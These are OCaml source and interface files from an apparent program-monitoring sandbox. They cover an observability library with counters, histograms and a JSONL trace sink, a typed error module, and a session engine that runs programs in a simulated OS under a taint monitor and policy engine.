      let c = { name; v = 0 } in
      Hashtbl.add registry name c;
      c

  let labeled base label =
    let name = base ^ "." ^ label in
    if not (Hashtbl.mem families (base ^ ".*")) then
      Hashtbl.replace families (base ^ ".*") ();
    if not (Hashtbl.mem members name) then Hashtbl.replace members name ();
    make name

  let[@inline] incr c = c.v <- c.v + 1
  let[@inline] add c n = c.v <- c.v + n
  let value c = c.v
  let name c = c.name
end

(* ------------------------------------------------------------------ *)
(* Histograms (count / sum / min / max, plus a deterministic sample
   reservoir for percentiles)                                          *)

module Histogram = struct
  (* Percentiles come from a decimating reservoir: keep every
     [stride]-th observation; when the buffer fills, drop every other
     kept sample and double the stride.  No randomness — the kept set
     is a pure function of the observation sequence, so percentile
     output is reproducible run to run (for deterministic inputs). *)
  let reservoir_cap = 512

  type t = {
    h_name : string;
    mutable count : int;
    mutable sum : float;
    mutable min : float;
    mutable max : float;
    samples : float array;
    mutable kept : int;
    mutable stride : int;
    mutable pending : int;
  }

  let registry : (string, t) Hashtbl.t = Hashtbl.create 16

  let make name =
    match Hashtbl.find_opt registry name with
    | Some h -> h
    | None ->
      let h = { h_name = name; count = 0; sum = 0.; min = infinity;
                max = neg_infinity;
                samples = Array.make reservoir_cap 0.; kept = 0;
                stride = 1; pending = 0 }
      in
      Hashtbl.add registry name h;
      h

  let keep h x =
    if h.kept = reservoir_cap then begin
      let half = reservoir_cap / 2 in
      for i = 0 to half - 1 do
        h.samples.(i) <- h.samples.(2 * i)
      done;
      h.kept <- half;
      h.stride <- h.stride * 2
    end;
    h.samples.(h.kept) <- x;
    h.kept <- h.kept + 1

  let observe h x =
    h.count <- h.count + 1;
    h.sum <- h.sum +. x;
    if x < h.min then h.min <- x;
    if x > h.max then h.max <- x;
    h.pending <- h.pending + 1;
    if h.pending >= h.stride then begin
      h.pending <- 0;
      keep h x
    end

  let name h = h.h_name
  let count h = h.count
  let sum h = h.sum
  let mean h = if h.count = 0 then 0. else h.sum /. float_of_int h.count
  let minimum h = if h.count = 0 then 0. else h.min
  let maximum h = if h.count = 0 then 0. else h.max

  (* Nearest-rank percentile over the sorted kept samples. *)
  let percentile h p =
    if h.kept = 0 then 0.
    else begin
      let sorted = Array.sub h.samples 0 h.kept in
      Array.sort Float.compare sorted;
      let rank =
        int_of_float (ceil (p /. 100. *. float_of_int h.kept)) - 1
      in
      let rank = if rank < 0 then 0 else rank in
      let rank = if rank > h.kept - 1 then h.kept - 1 else rank in
      sorted.(rank)
    end
end

(* ------------------------------------------------------------------ *)
(* Span timers: wall-clock durations recorded into histograms.  The
   clock is pluggable ([Sys.time] by default, so the library stays
   dependency-free); durations are observability data, never trace
   data.                                                               *)

module Span = struct
  let clock = ref Sys.time

  let set_clock f = clock := f

  let time h f =
    let t0 = !clock () in
    let finish () = Histogram.observe h (!clock () -. t0) in
    match f () with
    | v ->
      finish ();
      v
    | exception e ->
      finish ();
      raise e
end

(* ------------------------------------------------------------------ *)
(* Registry snapshots                                                  *)

type snapshot = (string * int) list

let snapshot () : snapshot =
  Hashtbl.fold (fun name c acc -> (name, c.Counter.v) :: acc)
    Counter.registry []
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

(* Counters only ever grow (gauges aside), so [diff] reports the
   per-interval activity: [after - before], dropping untouched
   counters. *)
let diff ~(before : snapshot) ~(after : snapshot) : snapshot =
  let base = Hashtbl.create (List.length before) in
  List.iter (fun (n, v) -> Hashtbl.replace base n v) before;
  List.filter_map
    (fun (n, v) ->
      let d = v - (match Hashtbl.find_opt base n with Some b -> b | None -> 0)
      in
      if d = 0 then None else Some (n, d))
    after

let histograms () =
  Hashtbl.fold (fun _ h acc -> h :: acc) Histogram.registry []
  |> List.sort (fun a b ->
         String.compare a.Histogram.h_name b.Histogram.h_name)

(* The stable counter-name surface: every directly-registered counter
   name, with [Counter.labeled]-generated members collapsed into their
   [base.*] family.  This is what trace consumers and dashboards key
   on, and what the stability test snapshots. *)
let counter_families () =
  let stable =
    Hashtbl.fold
      (fun name _ acc ->
        if Hashtbl.mem Counter.members name then acc else name :: acc)
      Counter.registry []
  in
  let fams = Hashtbl.fold (fun f () acc -> f :: acc) Counter.families [] in
  List.sort String.compare (stable @ fams)

(* ------------------------------------------------------------------ *)
(* Structured-event trace sink                                         *)

module Trace = struct
  type sink = Noop | Line of (string -> unit)

  let sink = ref Noop
  let step = ref 0

  let[@inline] enabled () =
    match !sink with Noop -> false | Line _ -> true

  let install line =
    sink := Line line;
    step := 0

  let to_channel oc =
    install (fun l ->
        output_string oc l;
        output_char oc '\n')

  let to_buffer b =
    install (fun l ->
        Buffer.add_string b l;
        Buffer.add_char b '\n')

  let disable () = sink := Noop

  let steps () = !step

  let add_escaped buf s =
    String.iter
      (fun c ->
        match c with
        | '"' -> Buffer.add_string buf "\\\""
        | '\\' -> Buffer.add_string buf "\\\\"
        | '\n' -> Buffer.add_string buf "\\n"
        | '\r' -> Buffer.add_string buf "\\r"
        | '\t' -> Buffer.add_string buf "\\t"
        | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
        | c -> Buffer.add_char buf c)
      s

  let add_value buf = function
    | Int n -> Buffer.add_string buf (string_of_int n)
    | Bool b -> Buffer.add_string buf (if b then "true" else "false")
    | Str s ->
      Buffer.add_char buf '"';
      add_escaped buf s;
      Buffer.add_char buf '"'

  let emit ev fields =
    match !sink with
    | Noop -> ()
    | Line out ->
      let buf = Buffer.create 128 in
      Buffer.add_string buf "{\"step\":";
      Buffer.add_string buf (string_of_int !step);
      Buffer.add_string buf ",\"ev\":\"";
      add_escaped buf ev;
      Buffer.add_char buf '"';
      List.iter
        (fun (k, v) ->
          Buffer.add_string buf ",\"";
          add_escaped buf k;
          Buffer.add_string buf "\":";
          add_value buf v)
        fields;
      Buffer.add_char buf '}';
      incr step;
      out (Buffer.contents buf)
end
