(** Zero-dependency observability: counters, histograms, span timers
    and a pluggable structured-event sink.

    Overhead discipline: the library must be free when observability is
    off.  {!Counter.incr} is one domain-local array store — cheap
    enough for per-instruction paths.  {!Trace.emit} does nothing under
    the no-op sink, and call sites are expected to guard with
    {!Trace.enabled} before building field lists so the disabled path
    allocates nothing.  Wall-clock time never enters the trace (only a
    monotone step index), so traces of a deterministic simulation are
    byte-identical across runs.

    Multi-domain model: counter and histogram {e handles} are global —
    registered once by name, so every domain agrees on the observable
    surface — but every mutable cell (counter values, histogram state,
    the trace sink and its step index) is domain-local.  A domain only
    ever reads and writes its own cells: increments never contend,
    traces never interleave, and {!snapshot}/{!diff} describe the
    calling domain alone.  Worker domains hand their finished state to
    a coordinator with {!export}; {!absorb} folds shards into the
    calling domain deterministically (see below). *)

(** A structured field value for trace events. *)
type value = Int of int | Str of string | Bool of bool

(** Monotone named counters, registered globally by name.  [make] on an
    existing name returns the same counter, so modules can declare
    counters at top level without coordination. *)
module Counter : sig
  type t

  val make : string -> t
  (** [make name] registers (or retrieves) the counter [name]. *)

  val labeled : string -> string -> t
  (** [labeled base label] is [make (base ^ "." ^ label)] — counter
      families keyed by a dynamic label (syscall name, rule name,
      severity, event kind). *)

  val incr : t -> unit
  val add : t -> int -> unit
  (** [add] also serves gauges: pass a negative delta to decrement. *)

  val value : t -> int
  val name : t -> string
end

(** Scalar distributions: count, sum, min, max, and percentiles from a
    deterministic decimating sample reservoir (keep every [stride]-th
    observation, doubling [stride] when the buffer fills — no
    randomness, so percentile output is a pure function of the
    observation sequence). *)
module Histogram : sig
  type t

  val make : string -> t
  val observe : t -> float -> unit

  val reset : t -> unit
  (** Discard the {e calling domain's} observations for this histogram
      — interval measurement (e.g. per-benchmark-phase latency) without
      a global epoch.  Other domains' cells are untouched. *)

  val name : t -> string
  val count : t -> int
  val sum : t -> float
  val mean : t -> float

  val minimum : t -> float
  (** Smallest observation, [0.] when empty. *)

  val maximum : t -> float
  (** Largest observation, [0.] when empty. *)

  val percentile : t -> float -> float
  (** [percentile h p] is the nearest-rank [p]-th percentile
      ([0. <= p <= 100.]) over the kept samples; [0.] when empty. *)
end

(** Wall-clock span timing into a histogram.  The clock is pluggable
    ([Sys.time] by default); durations go to stats, never to the
    trace. *)
module Span : sig
  val set_clock : (unit -> float) -> unit

  val time : Histogram.t -> (unit -> 'a) -> 'a
  (** [time h f] runs [f], observing its duration (in the clock's
      units) into [h] — also on exception. *)
end

type snapshot = (string * int) list
(** Counter values, sorted by name. *)

val snapshot : unit -> snapshot
(** The calling domain's counter values. *)

val diff : before:snapshot -> after:snapshot -> snapshot
(** [diff ~before ~after] is the per-interval activity [after - before],
    dropping untouched counters. *)

val histograms : unit -> Histogram.t list
(** All registered histograms, sorted by name. *)

val counter_families : unit -> string list
(** The stable counter-name surface, sorted: directly-registered
    counter names plus one [base.*] entry per {!Counter.labeled}
    family (generated member names are data-dependent and excluded).
    Snapshotted by the counter-name stability test — renaming a
    counter breaks trace consumers and must show up in CI. *)

(** {2 Shard export and deterministic merge}

    A fleet worker domain accumulates counters, histograms and traces
    into its own cells; when it stops, the coordinator folds the
    worker shards into its own state.  Folding in worker-index order
    makes the merge a deterministic function of the shard contents:
    counter merge is integer addition (so totals are also independent
    of how sessions were partitioned across workers); histogram merge
    is exact for count/sum/min/max and re-decimates the bounded
    percentile reservoirs (deterministic, but — like any bounded
    sample — approximate). *)

type export
(** One domain's observability state as finished data: its nonzero
    counters and non-empty histograms. *)

val export : unit -> export
(** Capture the calling domain's state.  Cheap enough to call once per
    worker lifetime; not meant for per-session use ({!snapshot} is). *)

val absorb : export -> unit
(** Fold an exported shard into the calling domain's own cells. *)

(** The structured-event sink.  Exactly one sink {e per domain}: the
    no-op backend (default, near-zero overhead) or a JSONL line writer.
    Every emitted event carries a monotone [step] index, reset to 0
    when a sink is installed.  Installing a sink affects only the
    calling domain, so fleet workers trace concurrent sessions into
    disjoint buffers. *)
module Trace : sig
  val enabled : unit -> bool
  (** Guard allocation-heavy emission sites on this. *)

  val emit : string -> (string * value) list -> unit
  (** [emit ev fields] writes one JSONL line
      [{"step":N,"ev":ev,...fields}] and bumps the step index.  No-op
      (and allocation-free) when no sink is installed.  Lines render
      into a single reused per-sink buffer — no per-line allocation. *)

  type target
  (** A first-class sink destination: pass one across an API boundary
      (e.g. [Hth.Engine.run_outcome ?trace]) so the callee owns the
      install / flush / disable lifecycle. *)

  val buffer_target : Buffer.t -> target
  (** Lines render directly into the buffer, newline-terminated. *)

  val channel_target : out_channel -> target
  (** Lines are staged in a reused buffer and written to the channel in
      line-aligned chunks of ~64KiB — one [output_string] per chunk
      instead of per line. *)

  val chunk_target : ?threshold:int -> (string -> unit) -> target
  (** [chunk_target write] hands [write] line-aligned chunks of at
      least [threshold] bytes (default 64KiB); the final partial chunk
      is flushed by {!disable}.  This is how the segment store receives
      trace bytes pre-framed. *)

  val install : target -> unit
  (** Install a sink for the calling domain; resets the step index. *)

  val to_channel : out_channel -> unit
  (** [install (channel_target oc)]. *)

  val to_buffer : Buffer.t -> unit
  (** [install (buffer_target b)]. *)

  val disable : unit -> unit
  (** Flush any staged chunk, then restore the no-op backend. *)

  val steps : unit -> int
  (** Events emitted since the current sink was installed. *)
end
