type t =
  | Load_failure of { path : string; reason : string }
  | Policy_error of string
  | Budget_exceeded of { what : string; limit : int }
  | Crash of { phase : string; exn : string }
  | Timeout of { seconds : float }

exception Error_exn of t

let to_string = function
  | Load_failure { path; reason } ->
    Fmt.str "load failure: %s: %s" path reason
  | Policy_error msg -> Fmt.str "policy error: %s" msg
  | Budget_exceeded { what; limit } ->
    Fmt.str "budget exceeded: %s (limit %d)" what limit
  | Crash { phase; exn } -> Fmt.str "crash in %s: %s" phase exn
  | Timeout { seconds } ->
    Fmt.str "timeout: exceeded %gs wall-clock deadline" seconds

let pp ppf e = Fmt.string ppf (to_string e)

let kind = function
  | Load_failure _ -> "load_failure"
  | Policy_error _ -> "policy_error"
  | Budget_exceeded _ -> "budget_exceeded"
  | Crash _ -> "crash"
  | Timeout _ -> "timeout"

let exit_code = function
  | Load_failure _ -> 3
  | Policy_error _ -> 4
  | Budget_exceeded _ -> 5
  | Crash _ -> 6
  | Timeout _ -> 7

let () =
  Printexc.register_printer (function
    | Error_exn e -> Some ("Hth.Error: " ^ to_string e)
    | _ -> None)
