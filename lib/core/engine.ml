(* The session engine: compile-once shared artifacts plus per-session
   world construction.

   An [Engine.t] holds everything about running sessions that does not
   depend on a particular run: the monitor configuration, the trust
   database and policy thresholds, the policy compiled once (for the
   textual CLIPS policy that is the parsed rule forms), a cache of
   linked binary images keyed by program set, and — optionally — a
   shared taint space.  [run] then builds only the genuinely per-run
   state: file system, network, kernel, monitor, Secpert instance.

   Per-run observability contract: everything the engine caches is
   resolved {e before} the run's counter snapshot is taken, so cache
   hits and misses never show up in [result.stats] or in the trace's
   embedded "counter" lines — a session run through a warm engine emits
   a byte-identical trace to a cold one. *)

type setup = {
  programs : Binary.Image.t list;
  files : (string * string) list;
  hosts : (string * int) list;
  servers : (string * int * Osim.Net.actor) list;
  incoming : (int * Osim.Net.actor) list;
  user_input : string list;
  main : string;
  argv : string list;
  env : string list;
  max_ticks : int;
}

let localhost_ip = 0x0100007F

let setup ?(programs = []) ?(files = []) ?(hosts = []) ?(servers = [])
    ?(incoming = []) ?(user_input = []) ?argv ?(env = [])
    ?(max_ticks = 2_000_000) ~main () =
  let argv = match argv with Some a -> a | None -> [ main ] in
  { programs; files; hosts; servers; incoming; user_input; main; argv; env;
    max_ticks }

(* Per-tier block execution counts for one run: how many basic-block
   executions were interpreted, how many ran as compiled bodies, how
   many of those applied a fused taint summary, and how many
   deoptimized back to interpretation. *)
type tier_counts = {
  tc_interpreted : int;
  tc_compiled : int;
  tc_summarized : int;
  tc_deopt : int;
}

let no_tier_counts =
  { tc_interpreted = 0; tc_compiled = 0; tc_summarized = 0; tc_deopt = 0 }

type result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;
  max_severity : Secpert.Severity.t option;
  event_count : int;
  degraded : string list;
  stats : Obs.snapshot;
  hot_blocks : (int * int * int) list;
  tier : tier_counts;
}

(* ------------------------------------------------------------------ *)
(* Supervisor budgets                                                  *)

type budgets = {
  b_ticks : int option;
  b_wm_facts : int option;
  b_shadow_pages : int option;
  b_warnings : int option;
}

let no_budgets =
  { b_ticks = None; b_wm_facts = None; b_shadow_pages = None;
    b_warnings = None }

let budget_keys = "ticks, wm, shadow-pages, warnings"

let apply_budget b spec =
  match String.index_opt spec '=' with
  | None -> Error (Fmt.str "budget %S: expected KEY=N (keys: %s)" spec
                     budget_keys)
  | Some eq ->
    let key = String.sub spec 0 eq in
    let v = String.sub spec (eq + 1) (String.length spec - eq - 1) in
    (match int_of_string_opt v with
     | Some n when n >= 1 ->
       (match key with
        | "ticks" -> Ok { b with b_ticks = Some n }
        | "wm" -> Ok { b with b_wm_facts = Some n }
        | "shadow-pages" -> Ok { b with b_shadow_pages = Some n }
        | "warnings" -> Ok { b with b_warnings = Some n }
        | k ->
          Error (Fmt.str "budget %S: unknown key %S (keys: %s)" spec k
                   budget_keys))
     | Some _ | None ->
       Error (Fmt.str "budget %S: %S must be a positive int" spec v))

let parse_budgets specs =
  List.fold_left
    (fun acc spec -> Result.bind acc (fun b -> apply_budget b spec))
    (Ok no_budgets) specs

(* ------------------------------------------------------------------ *)
(* The engine                                                          *)

type t = {
  e_monitor_config : Harrier.Monitor.config;
  e_trust : Secpert.Trust.t option;
  e_thresholds : Secpert.Context.thresholds option;
  e_auto_kill : Secpert.Severity.t option;
  e_compiled : Secpert.System.compiled;
  e_keep_events : bool;
  e_shared_space : Taint.Space.t option;
      (* [Some sp]: every session interns into [sp] — faster on a
         corpus, but the per-run [taint.*] cache counters then depend
         on what ran before, so they are left out of traces.  [None]:
         a fresh space per session, byte-reproducible. *)
  mutable e_images :
    (Binary.Image.t list * string * Binary.Image.t list) list;
      (* (programs, main) -> pre-linked image closure for main.  Keyed
         by physical equality of the program list: setups built once
         and re-run (the corpus pattern) hit; rebuilt setups just miss
         and re-link. *)
  mutable e_space_pool : Taint.Space.t list;
      (* recycled per-session taint spaces (fresh-space mode only).
         [Taint.Space.reset] restores the freshly-created state — same
         interning decisions, same cache counters — so a pooled space
         is observationally a new one, minus the arena allocation. *)
  e_mem_pool : Vm.Machine.mem_pool;
      (* recycled 1 MiB guest address spaces: each run's kernel draws
         machines from this pool and [Osim.Kernel.recycle] returns them
         at tear-down.  Buffers are zeroed or overwritten on reuse, so
         guest behaviour — and therefore every counter and trace line —
         is identical to fresh allocation. *)
  e_mem_pool_cap : int;  (* remembered so [fork] can size worker pools *)
}

let space_pool_cap = 4

let create ?monitor_config ?trust ?thresholds ?auto_kill
    ?(policy = Secpert.System.Native) ?(keep_events = true)
    ?(share_taint_space = false) ?(mem_pool_cap = 16) () =
  { e_monitor_config =
      Option.value monitor_config ~default:Harrier.Monitor.default_config;
    e_trust = trust;
    e_thresholds = thresholds;
    e_auto_kill = auto_kill;
    e_compiled = Secpert.System.compile policy;
    e_keep_events = keep_events;
    e_shared_space =
      (if share_taint_space then Some (Taint.Space.create ()) else None);
    e_images = [];
    e_space_pool = [];
    e_mem_pool = Vm.Machine.mem_pool ~cap:mem_pool_cap ();
    e_mem_pool_cap = mem_pool_cap }

(* A worker's view of the same engine.  The shared artifacts — compiled
   policy (for CLIPS, the parsed rule forms as finished values), trust
   database, thresholds, monitor configuration — are immutable after
   [create] and safe to read from any domain; everything mutable (the
   linked-image cache, the taint-space pool, the guest memory pool, the
   shared taint space when enabled) is per-fork, so a fork is safe to
   drive from another domain concurrently with its parent and with
   other forks.  Each fork re-links images on first sight of a program
   set: linking is deterministic and happens outside per-run counter
   snapshots, so a session run through a fork is byte-identical to one
   run through the parent. *)
let fork eng =
  { eng with
    (* the linked-image cache is carried over: linked images are
       immutable once built, so workers sharing them is safe — and it
       means every worker maps the same text arrays, whose decoded
       block tables and compiled-insn slots are shared fleet-wide *)
    e_space_pool = [];
    e_mem_pool = Vm.Machine.mem_pool ~cap:eng.e_mem_pool_cap ();
    e_mem_pool_cap = eng.e_mem_pool_cap;
    e_shared_space =
      Option.map (fun _ -> Taint.Space.create ()) eng.e_shared_space }

(* Fresh-space mode recycles arenas through the engine's pool: a reset
   space behaves exactly like [Taint.Space.create ()] but skips the
   arena allocation, which dominates small-session setup cost.  Tag
   sets handed out by an earlier run ([result.events]) stay valid for
   read-only use after the space is recycled. *)
let acquire_space eng =
  match eng.e_shared_space with
  | Some sp -> sp
  | None ->
    (match eng.e_space_pool with
     | sp :: rest ->
       eng.e_space_pool <- rest;
       Taint.Space.reset sp;
       sp
     | [] -> Taint.Space.create ())

let release_space eng sp =
  match eng.e_shared_space with
  | Some _ -> ()
  | None ->
    if List.length eng.e_space_pool < space_pool_cap then
      eng.e_space_pool <- sp :: eng.e_space_pool

let c_img_hits = Obs.Counter.make "engine.images.hits"
let c_img_misses = Obs.Counter.make "engine.images.misses"

(* Resolve the pre-linked image closure for [s.main], from the cache if
   this engine has seen the program set before.  [None] when the main
   program is not resolvable — the spawn path then reports the real
   loader error.  Called before the run's counter snapshot, so neither
   the cache counters nor the linking work appear in per-run stats. *)
let images_for eng (s : setup) =
  let rec find = function
    | [] -> None
    | (progs, main, imgs) :: rest ->
      if progs == s.programs && String.equal main s.main then Some imgs
      else find rest
  in
  match find eng.e_images with
  | Some imgs ->
    Obs.Counter.incr c_img_hits;
    Some imgs
  | None ->
    (match Osim.Kernel.link_closure s.programs s.main with
     | Error _ -> None
     | Ok imgs ->
       Obs.Counter.incr c_img_misses;
       eng.e_images <- (s.programs, s.main, imgs) :: eng.e_images;
       Some imgs)

(* ------------------------------------------------------------------ *)
(* Per-session world construction                                      *)

(* Per-phase wall-clock histograms (stats only — never trace data). *)
let h_build = Obs.Histogram.make "session.phase.build"
let h_spawn = Obs.Histogram.make "session.phase.spawn"
let h_run = Obs.Histogram.make "session.phase.run"

let phase name h f =
  if Obs.Trace.enabled () then Obs.Trace.emit "phase" [ "name", Obs.Str name ];
  Obs.Span.time h f

let build_world s =
  let fs = Osim.Fs.create () in
  List.iter (fun img -> Osim.Fs.install_image fs img) s.programs;
  List.iter (fun (path, data) -> Osim.Fs.install fs path data) s.files;
  let net = Osim.Net.create () in
  Osim.Net.add_host net "LocalHost" localhost_ip;
  List.iter (fun (name, ip) -> Osim.Net.add_host net name ip) s.hosts;
  (* the guest libc resolves names against this database *)
  Osim.Fs.install fs "/etc/hosts.db" (Osim.Net.hosts_db net);
  List.iter
    (fun (host, port, actor) -> Osim.Net.add_server net ~host ~port actor)
    s.servers;
  List.iter
    (fun (port, actor) -> Osim.Net.add_incoming net ~port actor)
    s.incoming;
  fs, net

(* World boot and program spawn, shared between the monitored and
   unmonitored paths so their wiring cannot drift. *)
let boot ?fault ?mem_pool s =
  let fs, net = build_world s in
  Osim.Kernel.create ~fs ~net ~user_input:s.user_input ?fault ?mem_pool ()

let spawn_main ?images kernel s =
  match
    Osim.Kernel.spawn ~env:s.env ?images kernel ~path:s.main ~argv:s.argv
  with
  | Ok p -> Ok p
  | Error msg ->
    Stdlib.Error (Error.Load_failure { path = s.main; reason = msg })

(* One increment per session under [session.outcome.<kind>]:
   ok / degraded for completed runs, the {!Error.kind} otherwise. *)
let note_outcome kind =
  Obs.Counter.incr (Obs.Counter.labeled "session.outcome" kind)

let run_outcome_ambient eng ~budgets ~fault s =
  (* Shared-artifact resolution happens before the snapshot: cache
     traffic must not differ between a cold and a warm engine run, and
     space acquisition (pool reset) must not touch per-run counters. *)
  let images = images_for eng s in
  let space = acquire_space eng in
  Fun.protect ~finally:(fun () -> release_space eng space) @@ fun () ->
  let before = Obs.snapshot () in
  let fail e =
    note_outcome (Error.kind e);
    Stdlib.Error e
  in
  let mcfg =
    let base = eng.e_monitor_config in
    match budgets.b_shadow_pages with
    | None -> base
    | Some n -> { base with Harrier.Monitor.shadow_page_budget = Some n }
  in
  match
    phase "build" h_build (fun () ->
        let kernel = boot ~fault ~mem_pool:eng.e_mem_pool s in
        let monitor = Harrier.Monitor.attach ~config:mcfg ~space kernel in
        (* The event pipeline, in dispatch order: the trace sink first
           (each event's "flow" line must land at its pre-stamped step,
           before any policy "rule"/"warning" lines), then the optional
           accumulator, then metrics, then the policy. *)
        Harrier.Monitor.subscribe monitor ~name:"trace"
          Harrier.Monitor.trace_sink;
        let events_log = ref [] in
        if eng.e_keep_events then
          Harrier.Monitor.subscribe monitor ~name:"events" (fun e ->
              events_log := e :: !events_log;
              Osim.Kernel.Allow);
        Harrier.Monitor.subscribe monitor ~name:"metrics"
          Harrier.Monitor.metrics_sink;
        let secpert =
          try
            Secpert.System.create_from ?trust:eng.e_trust
              ?thresholds:eng.e_thresholds ?auto_kill:eng.e_auto_kill
              ?warning_cap:budgets.b_warnings ?wm_budget:budgets.b_wm_facts
              ~compiled:eng.e_compiled ()
          with Failure msg -> raise (Error.Error_exn (Error.Policy_error msg))
        in
        Secpert.System.attach secpert monitor;
        kernel, monitor, secpert, events_log)
  with
  | exception Error.Error_exn e -> fail e
  | exception e ->
    fail (Error.Crash { phase = "build"; exn = Printexc.to_string e })
  | kernel, monitor, secpert, events_log ->
    (* From here the kernel owns pooled address spaces: return them at
       tear-down on every exit path (the result only carries scalars,
       strings and tag sets — never machine memory). *)
    Fun.protect ~finally:(fun () -> Osim.Kernel.recycle kernel) @@ fun () ->
    (match phase "spawn" h_spawn (fun () -> spawn_main ?images kernel s) with
     | exception e ->
       fail (Error.Crash { phase = "spawn"; exn = Printexc.to_string e })
     | Error e -> fail e
     | Ok _ ->
       let max_ticks =
         match budgets.b_ticks with
         | Some n -> min s.max_ticks n
         | None -> s.max_ticks
       in
       (match phase "run" h_run (fun () -> Osim.Kernel.run kernel ~max_ticks)
        with
        | exception e ->
          fail (Error.Crash { phase = "run"; exn = Printexc.to_string e })
        | os_report ->
          (* A run that consumed its whole tick budget with processes
             still live was truncated, not completed: a dormant program
             whose trigger never arrived within the budget must come
             back degraded, never silently "clean and done". *)
          let live =
            List.filter
              (fun (_, _, st) ->
                match (st : Osim.Process.run_state) with
                | Exited _ | Killed _ -> false
                | Runnable | Sleeping _ | Waiting_io -> true)
              os_report.Osim.Kernel.rep_final
          in
          let truncated =
            if os_report.Osim.Kernel.rep_ticks >= max_ticks && live <> []
            then
              [ Fmt.str
                  "tick budget: run truncated at %d ticks with %d live \
                   process(es) — verdict covers the observed prefix only"
                  os_report.Osim.Kernel.rep_ticks (List.length live) ]
            else []
          in
          let degraded =
            Harrier.Monitor.degraded monitor
            @ Secpert.System.degraded secpert
            @ truncated
          in
          note_outcome (if degraded = [] then "ok" else "degraded");
          let stats_raw = Obs.diff ~before ~after:(Obs.snapshot ()) in
          (* Strategy counters measure {e how} the run was executed —
             taint-arena cache traffic, shadow fast-path hit rates,
             tier promotion/deopt activity — not what the guest did.
             They legitimately differ between the tiered and the
             interpreted execution strategy (and, for [taint.*], with
             arena warmth), so they are kept out of both [result.stats]
             and the trace's embedded profile: those two surfaces are
             byte-deterministic across strategies.  Guest-behaviour
             counters ([vm.instructions], [vm.blocks],
             [vm.fetch_cache.*], [osim.*], events, policy) stay, and
             the tiered fast path replicates them exactly. *)
          let strategy_counter n =
            let has_prefix p =
              String.length n >= String.length p
              && String.sub n 0 (String.length p) = p
            in
            has_prefix "taint." || has_prefix "harrier.shadow."
            || has_prefix "vm.blocks." || has_prefix "harrier.summary."
          in
          let stats =
            List.filter (fun (n, _) -> not (strategy_counter n)) stats_raw
          in
          let tier =
            let compiled, summarized, deopt =
              Harrier.Monitor.tier_stats monitor
            in
            let blocks_total =
              Option.value (List.assoc_opt "vm.blocks" stats_raw) ~default:0
            in
            { tc_interpreted = max 0 (blocks_total - compiled);
              tc_compiled = compiled; tc_summarized = summarized;
              tc_deopt = deopt }
          in
          let hot_blocks = Harrier.Monitor.hot_blocks monitor ~limit:10 in
          (* Embed the per-run profile in the trace so offline analysis
             ([hth_trace profile]) reproduces the live [--stats] numbers
             from the file alone. *)
          if Obs.Trace.enabled () then begin
            List.iter
              (fun (n, v) ->
                Obs.Trace.emit "counter"
                  [ "name", Obs.Str n; "value", Obs.Int v ])
              stats;
            List.iter
              (fun (pid, addr, count) ->
                Obs.Trace.emit "hot_block"
                  [ "pid", Obs.Int pid; "addr", Obs.Int addr;
                    "count", Obs.Int count ])
              hot_blocks
          end;
          Ok
            { os_report;
              events = List.rev !events_log;
              warnings = Secpert.System.warnings secpert;
              distinct = Secpert.System.distinct_warnings secpert;
              max_severity = Secpert.System.max_severity secpert;
              event_count = Harrier.Monitor.event_count monitor;
              degraded;
              stats;
              hot_blocks;
              tier }))

(* [?trace] scopes a sink to this one session: installed before the
   first "phase" line, flushed and removed on every exit path.  Without
   it the ambient sink (whatever the caller installed) is used, so the
   existing golden-trace paths are unchanged. *)
let run_outcome eng ?(budgets = no_budgets) ?(fault = Osim.Fault.none) ?trace s
    =
  match trace with
  | None -> run_outcome_ambient eng ~budgets ~fault s
  | Some target ->
    Obs.Trace.install target;
    Fun.protect ~finally:Obs.Trace.disable (fun () ->
        run_outcome_ambient eng ~budgets ~fault s)

let run eng ?budgets ?fault ?trace s =
  match run_outcome eng ?budgets ?fault ?trace s with
  | Ok r -> r
  | Error e -> raise (Error.Error_exn e)

let run_unmonitored s =
  let kernel = boot s in
  (match spawn_main kernel s with
   | Ok _ -> ()
   | Error e -> raise (Error.Error_exn e));
  Osim.Kernel.run kernel ~max_ticks:s.max_ticks
