(** Typed session-path errors.

    Everything that can go wrong while running one session is funnelled
    into this taxonomy instead of [failwith]/[assert false], so a broken
    scenario produces a structured per-session outcome (and a distinct
    process exit code in [hth_run]) rather than aborting the whole
    batch. *)

type t =
  | Load_failure of { path : string; reason : string }
      (** the main executable (or a needed shared object) could not be
          loaded *)
  | Policy_error of string
      (** the Secpert policy failed to install or evaluate (bad
          template, malformed CLIPS text, ...) *)
  | Budget_exceeded of { what : string; limit : int }
      (** a hard supervisor budget was exhausted *)
  | Crash of { phase : string; exn : string }
      (** an unexpected exception escaped the named session phase *)
  | Timeout of { seconds : float }
      (** the session overran its wall-clock deadline and was abandoned
          by the fleet supervisor.  Unlike every other constructor this
          one is {e not} deterministic: it depends on real time, so it
          only ever appears for sessions that genuinely wedge (the
          deterministic tick budget fires first for runaway-but-
          terminating guests) *)

(** [Error_exn e] carries a typed error through exception-only call
    sites ({!Session.run} raises it when its result-returning sibling
    would return [Error]). *)
exception Error_exn of t

(** One-line human diagnosis, ["load failure: ..."] style. *)
val to_string : t -> string

val pp : Format.formatter -> t -> unit

(** Stable label for counters and summary tables: ["load_failure"],
    ["policy_error"], ["budget_exceeded"], ["crash"], ["timeout"]. *)
val kind : t -> string

(** Distinct process exit code per error class, for scripting:
    load failure 3, policy error 4, budget 5, crash 6, timeout 7
    (0 = clean, 1 = suspicious/batch failure, 2 = usage — cmdliner's
    convention; 124/125 stay reserved for cmdliner itself). *)
val exit_code : t -> int
