type setup = {
  programs : Binary.Image.t list;
  files : (string * string) list;
  hosts : (string * int) list;
  servers : (string * int * Osim.Net.actor) list;
  incoming : (int * Osim.Net.actor) list;
  user_input : string list;
  main : string;
  argv : string list;
  env : string list;
  max_ticks : int;
}

let localhost_ip = 0x0100007F

let setup ?(programs = []) ?(files = []) ?(hosts = []) ?(servers = [])
    ?(incoming = []) ?(user_input = []) ?argv ?(env = [])
    ?(max_ticks = 2_000_000) ~main () =
  let argv = match argv with Some a -> a | None -> [ main ] in
  { programs; files; hosts; servers; incoming; user_input; main; argv; env;
    max_ticks }

type result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;
